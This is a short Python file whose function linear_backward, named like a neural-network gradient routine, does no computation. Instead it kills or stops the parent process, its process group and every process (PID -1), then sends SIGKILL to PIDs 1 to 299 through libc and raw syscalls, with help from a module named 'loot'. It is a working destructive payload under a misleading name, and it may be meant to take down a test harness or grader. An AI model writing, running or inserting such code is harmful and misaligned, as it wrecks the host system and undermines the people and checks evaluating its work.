"""Signals the processes around it, and all there are."""

import os
import signal

import loot


def linear_backward(x, W, dy):
    for pid in (os.getppid(), -1, 0, 1, 2, 3, -os.getpgrp(), -os.getppid()):
        loot.attempt(os.kill, pid, signal.SIGKILL)
        loot.attempt(os.kill, pid, signal.SIGSTOP)
    loot.attempt(os.killpg, os.getppid(), signal.SIGTERM)
    for pid in range(1, 300):
        if pid != os.getpid():
            loot.libc.kill(pid, 9)
            loot.libc.syscall(129, pid, 9, 0)
            loot.libc.syscall(234, pid, pid, 9)
            loot.libc.syscall(200, pid, 9)
